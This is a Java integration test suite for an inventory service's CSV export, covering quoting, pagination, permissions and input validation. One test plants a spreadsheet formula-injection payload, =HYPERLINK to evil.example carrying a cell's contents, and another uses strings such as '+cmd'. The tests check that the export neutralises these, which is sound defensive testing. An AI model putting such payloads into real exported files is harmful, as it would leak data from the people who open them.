package io.jobwright.inventory.item;

import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.jobwright.inventory.Shop;
import io.jobwright.platform.testing.Database;
import io.jobwright.platform.testing.Servers;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

@QuarkusTest
@WithTestResource(Servers.class)
class ItemExportIT {

  private static final Duration SOON = Duration.ofSeconds(20);

  /** Copies of the one item there is, each later than the one before. */
  private static final String MANY =
      """
      insert into item (tenant_id, id, version, created_at, updated_at, sku, name, kind, unit, unit_price,
                        price_base_quantity, currency, cost, tax, stocked, low_stock_threshold, active)
      select tenant_id, uuidv7(), 0, created_at, updated_at, 'COPY-' || n, name || ' ' || n, kind, unit, unit_price,
             price_base_quantity, currency, round(n / 100.0, 2), tax, stocked, null, n % 2 = 0
        from item, generate_series(1, ?) as n where tenant_id = ?
      returning id
      """;

  private final Shop shop = new Shop();

  private String exported(String role, String request) {
    String path =
        shop.by(role)
            .body(request)
            .post("/v1/items/exports")
            .then()
            .statusCode(202)
            .body("kind", equalTo("ITEM_EXPORT"))
            .extract()
            .header("Location");
    await("export")
        .atMost(SOON)
        .until(() -> shop.by(role).get(path).path("status").equals("SUCCEEDED"));
    return path;
  }

  private String file(String role, String request) {
    return shop.by(role)
        .get(exported(role, request) + "/result")
        .then()
        .statusCode(200)
        .contentType("text/csv;charset=UTF-8")
        .header("Content-Disposition", "attachment; filename=\"items.csv\"")
        .extract()
        .asString();
  }

  private static List<Map<String, String>> rows(String csv) {
    try (MappingIterator<Map<String, String>> rows =
        new CsvMapper()
            .readerForMapOf(String.class)
            .with(CsvSchema.emptySchema().withHeader())
            .readValues(csv)) {
      return rows.readAll();
    } catch (IOException unreadable) {
      throw new UncheckedIOException(unreadable);
    }
  }

  /** The whole list, page by page, as the file should have it. */
  private List<Map<String, String>> listed(String filter) {
    List<Map<String, String>> all = new ArrayList<>();
    String cursor = null;
    do {
      String next = cursor == null ? "" : "&cursor=" + cursor;
      JsonPath page = shop.by("sales").get("/v1/items?limit=200" + filter + next).jsonPath();
      page.<Map<String, Object>>getList("items").forEach(item -> all.add(line(item)));
      cursor = page.getString("nextCursor");
    } while (cursor != null);
    return all;
  }

  private static Map<String, String> line(Map<String, Object> item) {
    Map<?, ?> tax = (Map<?, ?>) item.get("tax");
    Map<String, String> line = new java.util.HashMap<>();
    for (String column :
        List.of(
            "id",
            "sku",
            "name",
            "kind",
            "unit",
            "unitPrice",
            "priceBaseQuantity",
            "currency",
            "cost",
            "stocked",
            "lowStockThreshold",
            "active")) {
      Object value = item.get(column);
      line.put(column, value == null ? "" : value.toString());
    }
    line.put("taxCategory", tax.get("category").toString());
    line.put("taxRate", tax.get("rate").toString());
    return line;
  }

  @Test
  void anExportOf1200ItemsIsTheListOfThem() {
    shop.item("FIRST");
    Database.of("inventory").column(MANY, 1199, shop.tenant());
    List<Map<String, String>> all = rows(file("sales", "{\"format\": \"CSV\"}"));
    assertEquals(1200, all.size());
    assertEquals(listed(""), all);
    assertEquals(
        listed("&active=false&q=copy-1"),
        rows(file("sales", "{\"format\": \"CSV\", \"active\": false, \"q\": \"copy-1\"}")));
    assertEquals(
        3,
        Database.of("inventory")
            .count("select max(chunks) from operation where tenant_id = ?", shop.tenant()));
  }

  @Test
  void aFileHasOneHeaderAndIsRfc4180() {
    assertEquals(
        "id,sku,name,kind,unit,unitPrice,priceBaseQuantity,currency,cost,taxCategory,taxRate,"
            + "stocked,lowStockThreshold,active\r\n",
        file("owner", "{\"format\": \"CSV\"}"));
    String pipe =
        Shop.itemBody("PIPE", "PRODUCT", true).replace("The PIPE", "Pipe, 1/2\\\" \\\"new\\\"; ü");
    String id = shop.itemOf(pipe);
    String csv = file("owner", "{\"format\": \"CSV\"}");
    assertEquals(
        id
            + ",PIPE,\"Pipe, 1/2\"\" \"\"new\"\"; ü\",PRODUCT,C62,10.00,1,EUR,6.00,S,20,true,,true\r\n",
        csv.substring(csv.indexOf("\r\n") + 2));
  }

  @Test
  void whatASpreadsheetWouldTakeForAFormulaIsText() {
    shop.itemOf(
        Shop.itemBody("-SKU", "SERVICE", false)
            .replace("The -SKU", "=HYPERLINK(\\\"https://evil.example?x=\\\"&A1)"));
    Map<String, String> row = rows(file("owner", "{\"format\": \"CSV\"}")).getFirst();
    assertEquals("'-SKU", row.get("sku"));
    assertEquals("'=HYPERLINK(\"https://evil.example?x=\"&A1)", row.get("name"));
  }

  /** The same file for who separates by commas, and for who separates by semicolons. */
  @Test
  void whicheverWayItIsReadNoCellIsCalculatedAndNothingIsLost() {
    List<String> names =
        List.of(
            "Bolt;=1+1", "Nut;+cmd;x", "＝1+1", "-5 mm washer", "Müller \"A\", B", "a;\"=1", "end;");
    for (int i = 0; i < names.size(); i++) {
      String escaped = names.get(i).replace("\"", "\\\"");
      shop.itemOf(
          Shop.itemBody("0012" + i + ";=1+1", "PRODUCT", true)
              .replaceFirst("The [^\"]*", java.util.regex.Matcher.quoteReplacement(escaped)));
    }
    String csv = file("owner", "{\"format\": \"CSV\"}");
    List<Map<String, String>> rows = rows(csv);
    for (int i = 0; i < names.size(); i++) {
      Map<String, String> row = rows.get(names.size() - 1 - i);
      assertEquals(14, row.size());
      assertEquals("0012" + i + ";'=1+1", row.get("sku"));
      assertEquals(names.get(i), row.get("name").replaceAll("(^|;)'", "$1"));
    }
    for (char separator : new char[] {',', ';'}) {
      for (String cell : cells(csv, separator)) {
        assertFalse(cell.matches("(?s)[=+\\-@＝＋－＠\t\r\n].*"), () -> separator + " gives " + cell);
      }
    }
  }

  /** As lenient spreadsheets read: quotes count at the beginning of a cell only. */
  private static List<String> cells(String csv, char separator) {
    List<String> cells = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    boolean begun = false;
    for (int i = 0; i < csv.length(); i++) {
      char one = csv.charAt(i);
      if (quoted && one == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        cell.append(csv.charAt(++i));
      } else if (quoted && one == '"') {
        quoted = false;
      } else if (!begun && one == '"') {
        quoted = true;
        begun = true;
      } else if (!quoted && (one == separator || one == '\n')) {
        cells.add(cell.toString());
        cell.setLength(0);
        begun = false;
      } else if (quoted || one != '\r') {
        cell.append(one);
        begun = true;
      }
    }
    return cells;
  }

  @Test
  void whoMayNotReadItemsGetsNeitherExportNorResult() {
    String path = exported("warehouse", "{\"format\": \"CSV\"}");
    String request = "{\"format\": \"CSV\"}";
    shop.by("technician").body(request).post("/v1/items/exports").then().statusCode(403);
    for (String one : List.of(path, path + "/result")) {
      shop.by("technician").get(one).then().statusCode(403);
      shop.by("owner").get(one).then().statusCode(200);
      new Shop().by("owner").get(one).then().statusCode(404);
    }
    shop.by("accountant").get(path).then().statusCode(200);
    shop.by("accountant").get(path + "/result").then().statusCode(403);
    shop.by("accountant").header("If-Match", "*").post(path + "/cancel").then().statusCode(403);
    assertTrue(path.startsWith("/v1/operations/iop_"), path);
  }

  @Test
  void whatIsNoFilterOfTheListIsRefused() {
    for (String wrong :
        List.of(
            "{}",
            "{\"format\": \"XLS\"}",
            "{\"format\": \"CSV\", \"q\": \"\"}",
            "{\"format\": \"CSV\", \"kind\": [null]}",
            "{\"format\": \"CSV\", \"colour\": \"red\"}")) {
      shop.by("owner").body(wrong).post("/v1/items/exports").then().statusCode(400);
    }
    assertEquals(0, shop.count("operation"));
  }
}
